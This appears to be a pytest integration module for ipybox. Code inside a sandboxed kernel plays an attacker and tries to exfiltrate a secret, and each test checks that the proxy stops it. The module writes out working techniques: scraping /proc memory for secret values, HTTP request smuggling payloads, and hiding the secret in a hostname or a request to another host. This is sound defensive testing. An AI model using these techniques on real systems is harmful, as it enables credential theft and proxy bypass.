"""`[secrets]` from the attacker's side: code in a real sandboxed workspace kernel (a real supervisor, real
bubblewrap, the workspace's proxy) holding a secret's placeholder tries to get the value out or to the
wrong place, and fails. `tests/supervisor/test_secrets_live.py` has the way in that works (the origin gets
the value) and the kernel's own environment and files; this module the rest.

Two test hosts in network namespaces of the test's own (`tests/sandbox/netns.py`), each running the
recording origin (`tests/sandbox/netns_origin.py`, TLS on 443 and plain HTTP on 80, certificates for
their IP addresses signed by a test CA): host A is the secret's (`hosts = [A]`, `headers =
["Authorization"]`), host B is allowed and has no secret. Both are listed exactly in `allowedDomains`
(private addresses are reached only when named so). Every byte either origin receives is recorded, so
"B never got the value" is checked on what arrived, not on what the proxy meant to send. No test contacts
an outside address: the kernel's network is the proxy, and the proxy reaches only A and B here.

The proxy runs in this process and verifies origins with `ssl.create_default_context()`: `SSL_CERT_FILE`,
set to the test CA for the module, makes it trust A and B (as in test_secrets_live.py). The kernel's trust
bundle is built from the same variable, so it trusts B directly and A through the interception CA.

Each test says which protection it covers: it fails if that protection is removed. Network namespaces take
root (`root_only`, as the suite's other tests that need it); as root, a machine without `ip` or where
`ip netns add` fails makes the fixture fail, naming why.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import secrets
import sys
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from ipybox import CodeExecutor
from ipybox.config.secrets import PLACEHOLDER_PREFIX
from ipybox.sandbox.platforms import sandbox_supported
from ipybox.supervisor import Supervisor
from tests.sandbox.netns import NetnsError, NetnsOrigin, origins
from tests.servers.params import EDGE_SERVER
from tests.supervisor.workspaces import sandboxed_kernels

pytestmark = [
    pytest.mark.integration,
    pytest.mark.root_only,
    pytest.mark.skipif(os.geteuid() != 0, reason="test hosts in network namespaces take root"),
    pytest.mark.skipif(not sandbox_supported(), reason="the sandbox can't run here (ipybox doctor)"),
]

# Made at run time: no file a sandboxed kernel can read (this test's source among them) holds it.
REAL = "real-attack-token-" + secrets.token_hex(8)
"""The secret's value, in the workspace's `.env` (hidden from kernels)."""
# The kernel looks for the value in memory in two halves, never holding the whole value itself.
HALF = len(REAL) // 2
PROXY_LOGGER = "ipybox.sandbox.proxy"


def workspace_file(a: str, b: str) -> str:
    return sandboxed_kernels(f'allowedDomains = ["{a}", "{b}"]') + (
        "[secrets.demo]\n"
        'value = "${DEMO_TOKEN}"\n'
        'env = "DEMO_TOKEN"\n'
        f'hosts = ["{a}"]\n'
        'headers = ["Authorization"]\n\n'
        f"[servers.edge]\ncommand = {json.dumps(sys.executable)}\nargs = [{json.dumps(str(EDGE_SERVER))}]\n\n"
        '[[approval.rules]]\nid = "echo"\nserver = "edge"\ntool = "echo"\ndecision = "allow"\n'
    )


# Defined in every cell: raw requests through the kernel's proxy, as attacking code would send them.
PRELUDE = r"""
import json, os, socket, ssl, urllib.parse
PH = os.environ['DEMO_TOKEN']
_proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])

def _read_all(sock):
    data = b''
    try:
        while chunk := sock.recv(65536):
            data += chunk
    except (socket.timeout, ssl.SSLError, ConnectionError):
        pass
    return data.decode('latin-1')

def plain(request):
    '''`request` (bytes) to the proxy as is; its whole answer.'''
    with socket.create_connection((_proxy.hostname, _proxy.port), timeout=10) as sock:
        sock.sendall(request)
        return _read_all(sock)

def through(authority, request, server_hostname=None):
    '''CONNECT `authority`; if answered 200, TLS (trusting SSL_CERT_FILE) and `request`: the answers.'''
    sock = socket.create_connection((_proxy.hostname, _proxy.port), timeout=10)
    sock.sendall(f'CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n'.encode())
    answer = b''
    while not answer.endswith(b'\r\n\r\n'):
        byte = sock.recv(1)
        if not byte:
            break
        answer += byte
    if not answer.startswith(b'HTTP/1.1 200 '):
        rest = _read_all(sock)
        sock.close()
        return answer.decode('latin-1') + rest
    context = ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])
    with context.wrap_socket(sock, server_hostname=server_hostname or authority.rsplit(':', 1)[0]) as tls:
        tls.sendall(request)
        return _read_all(tls)
"""


@dataclass
class Attack:
    supervisor: Supervisor
    executor: CodeExecutor  # one kernel for the module: the attacks don't change what it can reach
    a: NetnsOrigin  # the secret's host
    b: NetnsOrigin  # allowed, no secret
    placeholder: str

    async def run(self, code: str) -> str:
        result = await self.executor.execute(PRELUDE + code, timeout=60)
        return (result.text or "").strip()

    async def answers(self, code: str) -> Any:
        """Run `code`, which prints one JSON value last; that value."""
        out = await self.run(code)
        return json.loads(out.splitlines()[-1])


@pytest.fixture(scope="module")
def hosts(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[list[NetnsOrigin], bytes]]:
    try:
        with origins(tmp_path_factory.mktemp("netns-origins"), 2) as started:
            yield started
    except NetnsError as e:
        pytest.fail(f"no test hosts: {e}", pytrace=False)


@pytest.fixture(scope="module")
async def attack(
    tmp_path_factory: pytest.TempPathFactory, hosts: tuple[list[NetnsOrigin], bytes]
) -> AsyncIterator[Attack]:
    (a, b), test_ca_pem = hosts
    test_ca = tmp_path_factory.mktemp("attack-ca") / "test-ca.pem"
    test_ca.write_bytes(test_ca_pem)
    before = os.environ.get("SSL_CERT_FILE")
    os.environ["SSL_CERT_FILE"] = str(test_ca)  # the proxy (in this process) trusts A and B
    directory = tmp_path_factory.mktemp("secrets-attacks")
    (directory / "ipybox.toml").write_text(workspace_file(a.address, b.address))
    (directory / ".env").write_text(f"DEMO_TOKEN={REAL}\n")
    supervisor = Supervisor(directory)
    try:
        await supervisor.start()
        async with CodeExecutor(workspace=directory) as executor:
            attack = Attack(supervisor, executor, a, b, "")
            attack.placeholder = (await attack.run("print(PH)")).splitlines()[-1]
            assert attack.placeholder.startswith(f"{PLACEHOLDER_PREFIX}demo-"), attack.placeholder
            yield attack
    finally:
        await supervisor.stop()
        if before is None:
            os.environ.pop("SSL_CERT_FILE", None)
        else:
            os.environ["SSL_CERT_FILE"] = before


def new_records(origin: NetnsOrigin, mark: int) -> list[dict[str, Any]]:
    return origin.records()[mark:]


def received(records: list[dict[str, Any]]) -> str:
    return "".join(r["data"] for r in records if r["kind"] == "bytes")


def paths(records: list[dict[str, Any]]) -> list[str]:
    return [r["head"].split(" ")[1] for r in records if r["kind"] == "request"]


async def test_the_way_in_works_so_the_refusals_below_mean_something(attack: Attack) -> None:
    # The control for every test below: the same kernel, the same proxy, A gets the value in its header.
    mark = len(attack.a.records())
    a = attack.a.address
    out = await attack.run(
        f"print(json.dumps(through('{a}:443', f'GET /in HTTP/1.1\\r\\nHost: {a}\\r\\n"
        "Authorization: Bearer {PH}\\r\\nConnection: close\\r\\n\\r\\n'.encode())))"
    )
    assert json.loads(out.splitlines()[-1]).startswith("HTTP/1.1 200 "), out
    (request,) = [r for r in new_records(attack.a, mark) if r["kind"] == "request"]
    assert f"\r\nAuthorization: Bearer {REAL}\r\n" in request["head"], request


async def test_no_process_the_kernel_can_see_holds_the_value_in_its_environment_arguments_or_memory(
    attack: Attack,
) -> None:
    # Covers: the value is kept on the host (the supervisor's proxy) and never handed to the kernel's
    # processes, in their environment, command lines or memory (kernel_env gets the placeholder); and the
    # proxy's process (this pytest, whose memory holds the value) is not visible from the sandbox.
    # The value is searched for as two halves found next to each other, so the search itself never
    # makes the whole value in the kernel's memory.
    head, tail = REAL[:HALF].encode(), REAL[HALF:].encode()
    code = f"""
head, tail = bytes.fromhex({head.hex()!r}), bytes.fromhex({tail.hex()!r})
def holds(data):
    at = data.find(head)
    while at != -1:
        if data[at + len(head):at + len(head) + len(tail)] == tail:
            return True
        at = data.find(head, at + 1)
    return False
found, scanned, visible = [], {{}}, []
for pid in [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        cmdline = open(f'/proc/{{pid}}/cmdline', 'rb').read()
    except OSError:
        continue
    visible.append(cmdline.replace(b'\\0', b' ').decode(errors='replace')[:80])
    for part in ('environ', 'cmdline'):
        try:
            if holds(open(f'/proc/{{pid}}/{{part}}', 'rb').read()):
                found.append(f'{{pid}}/{{part}}')
            scanned[part] = scanned.get(part, 0) + 1
        except OSError:
            pass
    try:
        regions = open(f'/proc/{{pid}}/maps').read().splitlines()
        with open(f'/proc/{{pid}}/mem', 'rb', buffering=0) as mem:
            size = 0
            for region in regions:
                span, perms = region.split()[:2]
                if not perms.startswith('r') or region.endswith('[vvar]'):
                    continue
                start, end = (int(x, 16) for x in span.split('-'))
                at = start
                while at < end:  # in 16 MiB reads that overlap by the value's length
                    try:
                        mem.seek(at)
                        data = mem.read(min(end - at, (1 << 24) + len(head) + len(tail)))
                    except (OSError, ValueError, OverflowError):
                        break
                    if holds(data):
                        found.append(f'{{pid}}/mem@{{at:x}}')
                    size += len(data)
                    at += 1 << 24
        scanned['mem'] = scanned.get('mem', 0) + 1
        scanned['mem_bytes'] = scanned.get('mem_bytes', 0) + size
    except OSError:
        pass
print(json.dumps({{'found': found, 'scanned': scanned, 'visible': visible, 'me': os.getpid()}}))
"""
    result = await attack.answers(code)
    assert result["found"] == [], result
    # It did look: every visible process's environment and command line, and at least its own memory
    # (tens of MiB: the kernel's interpreter, IPython, the cell's own halves).
    assert result["scanned"]["environ"] == result["scanned"]["cmdline"] == len(result["visible"]), result
    assert result["scanned"]["mem"] >= 1 and result["scanned"]["mem_bytes"] > 10 * 2**20, result
    # The proxy's process is not among them: the sandbox has a process namespace of its own.
    assert not any("pytest" in cmdline for cmdline in result["visible"]), result["visible"]


async def test_a_placeholder_sent_to_another_host_arrives_there_unreplaced(attack: Attack) -> None:
    # Covers: the value goes only to the secret's hosts. B is not intercepted (the proxy tunnels its
    # TLS unread), so the placeholder in B's header, URL and body arrives as the kernel wrote it.
    mark = len(attack.b.records())
    b = attack.b.address
    code = (
        "import urllib.request\n"
        f"request = urllib.request.Request(f'https://{b}/to-b?token={{PH}}', data=f'body {{PH}}'.encode(), "
        "headers={'Authorization': f'Bearer {PH}', 'X-Token': PH})\n"
        "with urllib.request.urlopen(request, timeout=30) as response:\n"
        "    print(json.dumps([response.status, response.read().decode()]))\n"
    )
    status, answer = await attack.answers(code)
    assert status == 200 and answer.startswith(f"POST /to-b?token={attack.placeholder} "), answer
    records = new_records(attack.b, mark)
    (request,) = [r for r in records if r["kind"] == "request"]
    assert f"\r\nAuthorization: Bearer {attack.placeholder}\r\n" in request["head"], request
    assert f"\r\nX-Token: {attack.placeholder}\r\n" in request["head"], request
    assert request["body"] == f"body {attack.placeholder}", request
    assert REAL not in received(records)


async def test_a_placeholder_in_plain_http_is_refused_and_logged(
    attack: Attack, caplog: pytest.LogCaptureFixture
) -> None:
    # Covers: the proxy refuses a plain http:// request carrying a placeholder (403, logged), to the
    # secret's host as to any other: neither gets it in clear text.
    marks = len(attack.a.records()), len(attack.b.records())
    a, b = attack.a.address, attack.b.address
    code = (
        "print(json.dumps([\n"
        f"    plain(f'GET http://{b}/clear-b HTTP/1.1\\r\\nHost: {b}\\r\\nAuthorization: Bearer {{PH}}\\r\\n\\r\\n'.encode()),\n"
        f"    plain(f'GET http://{a}/clear-a?t={{PH}} HTTP/1.1\\r\\nHost: {a}\\r\\n\\r\\n'.encode()),\n"
        "]))\n"
    )
    with caplog.at_level(logging.WARNING, logger=PROXY_LOGGER):
        answers = await attack.answers(code)
    for answer, host in zip(answers, (b, a), strict=True):
        assert answer.startswith("HTTP/1.1 403 "), answer
        assert f"refused a plain http:// request to {host}" in answer and "'demo'" in answer, answer
        assert REAL not in answer
    warnings = [r.getMessage() for r in caplog.records if r.name == PROXY_LOGGER]
    assert any(f"plain http:// request to {b}" in w and "'demo'" in w for w in warnings), warnings
    assert any(f"plain http:// request to {a}" in w for w in warnings), warnings
    assert new_records(attack.a, marks[0]) == [] and new_records(attack.b, marks[1]) == []


async def test_at_the_secret_host_only_the_allowed_header_gets_the_value(attack: Attack) -> None:
    # Covers: the value replaces the placeholder only in the headers the secret allows (Authorization),
    # never in the request line (path, query), another header or the body.
    mark = len(attack.a.records())
    a = attack.a.address
    code = (
        "import urllib.request\n"
        f"request = urllib.request.Request(f'https://{a}/p/{{PH}}?q={{PH}}', data=f'body {{PH}}'.encode(), "
        "headers={'Authorization': f'Bearer {PH}', 'X-Other': PH})\n"
        "with urllib.request.urlopen(request, timeout=30) as response:\n"
        "    print(json.dumps(response.status))\n"
    )
    assert await attack.answers(code) == 200
    (request,) = [r for r in new_records(attack.a, mark) if r["kind"] == "request"]
    ph = attack.placeholder
    assert request["head"].startswith(f"POST /p/{ph}?q={ph} HTTP/1.1\r\n"), request
    assert f"\r\nAuthorization: Bearer {REAL}\r\n" in request["head"], request
    assert f"\r\nX-Other: {ph}\r\n" in request["head"], request
    assert request["body"] == f"body {ph}", request
    assert request["head"].count(REAL) == 1, request


async def test_a_placeholder_as_a_host_name_is_refused_before_any_lookup(
    attack: Attack, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Covers: a host name is checked against allowedDomains before anything is resolved, and no
    # placeholder is ever replaced in a CONNECT target or URL host: no name server sees the placeholder
    # or the value (a DNS query is a way out of the sandbox for any name).
    looked_up: list[str] = []
    loop_class = type(asyncio.get_running_loop())
    original = loop_class.getaddrinfo

    async def spy(self: asyncio.AbstractEventLoop, host: Any, *args: Any, **kwargs: Any) -> Any:
        looked_up.append(str(host))
        return await original(self, host, *args, **kwargs)

    monkeypatch.setattr(loop_class, "getaddrinfo", spy)
    a = attack.a.address
    code = (
        "import urllib.request, urllib.error\n"
        "name = f'{PH}.example'\n"
        "try:\n"
        "    urllib.request.urlopen(f'https://{name}/', timeout=30)\n"
        "    via_urllib = 'opened'\n"
        "except (urllib.error.URLError, OSError) as e:\n"
        "    via_urllib = str(e)\n"
        "print(json.dumps([\n"
        "    via_urllib,\n"
        "    through(f'{name}:443', b''),\n"
        "    plain(f'GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n'.encode()),\n"
        f"    through('{a}:443', f'GET / HTTP/1.1\\r\\nHost: {a}\\r\\nConnection: close\\r\\n\\r\\n'.encode()),\n"
        "]))\n"
    )
    via_urllib, connect, in_clear, control = await attack.answers(code)
    assert "403" in via_urllib, via_urllib
    assert connect.startswith("HTTP/1.1 403 ") and "not in network.allowedDomains" in connect, connect
    assert in_clear.startswith("HTTP/1.1 403 ") and "'demo'" in in_clear, in_clear
    assert REAL not in connect + in_clear + via_urllib
    assert control.startswith("HTTP/1.1 200 "), control
    assert a in looked_up, looked_up  # the spy sees the proxy's lookups: A's, for the control
    assert not any(attack.placeholder in name or REAL in name for name in looked_up), looked_up


async def test_a_placeholder_in_a_tool_call_argument_reaches_the_server_unreplaced(attack: Attack) -> None:
    # Covers: tool calls never carry the value (only the proxy has it, and only HTTPS to A gets it): the
    # edge server's echo returns the argument it received.
    code = "from mcptools.edge import echo\nprint(json.dumps(echo.run(echo.Params(text=f'token {PH}'))))\n"
    assert await attack.answers(code) == f"token {attack.placeholder}"


async def test_smuggled_requests_bring_the_value_to_neither_host(attack: Attack) -> None:
    # Covers: the framing checks on intercepted connections (Content-Length with Transfer-Encoding, a
    # repeated Content-Length: 400 before the origin sees anything), a request URL for another host on
    # A's connection (421), and that the proxy relays a body as bytes (a request inside it is not one:
    # neither parsed nor given the value).
    marks = len(attack.a.records()), len(attack.b.records())
    a, b = attack.a.address, attack.b.address
    hidden_b = f"GET /smuggled-b HTTP/1.1\\r\\nHost: {b}\\r\\nAuthorization: Bearer {{PH}}\\r\\n\\r\\n"
    hidden_a = f"GET /smuggled-a HTTP/1.1\\r\\nHost: {a}\\r\\nAuthorization: Bearer {{PH}}\\r\\n\\r\\n"
    code = (
        f"hidden_b = f'{hidden_b}'\n"
        f"hidden_a = f'{hidden_a}'\n"
        "chunked_end = '0\\r\\n\\r\\n'\n"
        "cl_te = (f'POST /cl-te HTTP/1.1\\r\\nHost: "
        + a
        + "\\r\\nContent-Length: {len(chunked_end + hidden_b)}\\r\\n'\n"
        "         f'Transfer-Encoding: chunked\\r\\n\\r\\n' + chunked_end + hidden_b)\n"
        "te_cl = (f'POST /te-cl HTTP/1.1\\r\\nHost: " + a + "\\r\\nTransfer-Encoding: chunked\\r\\n'\n"
        "         f'Content-Length: 4\\r\\n\\r\\n' + chunked_end + hidden_a)\n"
        "two_lengths = (f'POST /two-lengths HTTP/1.1\\r\\nHost: " + a + "\\r\\nContent-Length: 0\\r\\n'\n"
        "               f'Content-Length: {len(hidden_a)}\\r\\n\\r\\n' + hidden_a)\n"
        "in_body = (f'POST /carrier HTTP/1.1\\r\\nHost: "
        + a
        + "\\r\\nContent-Length: {len(hidden_a)}\\r\\n\\r\\n'\n"
        "           + hidden_a + 'GET /after HTTP/1.1\\r\\nHost: "
        + a
        + "\\r\\nConnection: close\\r\\n\\r\\n')\n"
        "absolute_b = f'GET https://"
        + b
        + "/absolute HTTP/1.1\\r\\nHost: "
        + a
        + "\\r\\nAuthorization: Bearer {PH}\\r\\n\\r\\n'\n"
        "print(json.dumps([through('"
        + a
        + ":443', r.encode()) for r in (cl_te, te_cl, two_lengths, in_body, absolute_b)]))\n"
    )
    cl_te, te_cl, two_lengths, in_body, absolute_b = await attack.answers(code)
    for refused in (cl_te, te_cl, two_lengths):
        assert refused.startswith("HTTP/1.1 400 ") and "smuggling" in refused, refused
    assert absolute_b.startswith("HTTP/1.1 421 "), absolute_b
    # The carrier and the request after it were answered; the one in the body was not a request.
    assert in_body.count("HTTP/1.1 200 ") == 2 and "POST /carrier " in in_body and "GET /after " in in_body
    a_records = new_records(attack.a, marks[0])
    assert paths(a_records) == ["/carrier", "/after"], paths(a_records)
    (carrier,) = [r for r in a_records if r["kind"] == "request" and r["head"].startswith("POST /carrier ")]
    assert carrier["body"] == hidden_a.replace("\\r\\n", "\r\n").replace("{PH}", attack.placeholder)
    assert REAL not in received(a_records)  # no request here had the value's header in its own head
    assert new_records(attack.b, marks[1]) == []


async def test_a_host_header_for_the_other_host_brings_the_value_to_neither(
    attack: Attack, caplog: pytest.LogCaptureFixture
) -> None:
    # Covers: on a connection the proxy intercepts, the Host must be the CONNECT host (421, logged: the
    # value is for A's connection, and a Host B there goes nowhere), and a CONNECT to B is not intercepted
    # whatever its requests say (Host: A on B's connection: B gets the placeholder, not the value).
    marks = len(attack.a.records()), len(attack.b.records())
    a, b = attack.a.address, attack.b.address
    code = (
        "print(json.dumps([\n"
        f"    through('{a}:443', f'GET /host-b HTTP/1.1\\r\\nHost: {b}\\r\\nAuthorization: Bearer {{PH}}\\r\\n\\r\\n'.encode()),\n"
        f"    through('{b}:443', f'GET /host-a HTTP/1.1\\r\\nHost: {a}\\r\\nAuthorization: Bearer {{PH}}\\r\\n'\n"
        "            'Connection: close\\r\\n\\r\\n'.encode()),\n"
        "]))\n"
    )
    with caplog.at_level(logging.INFO, logger=PROXY_LOGGER):
        host_b_on_a, host_a_on_b = await attack.answers(code)
    assert host_b_on_a.startswith("HTTP/1.1 421 ") and f"names {b}" in host_b_on_a, host_b_on_a
    assert any(f"refused a request for {b} on a connection to {a}" in r.getMessage() for r in caplog.records)
    assert host_a_on_b.startswith("HTTP/1.1 200 ") and "GET /host-a " in host_a_on_b, host_a_on_b
    assert [r for r in new_records(attack.a, marks[0]) if r["kind"] == "request"] == []
    b_records = new_records(attack.b, marks[1])
    (request,) = [r for r in b_records if r["kind"] == "request"]
    assert f"\r\nAuthorization: Bearer {attack.placeholder}\r\n" in request["head"], request
    assert REAL not in received(b_records)
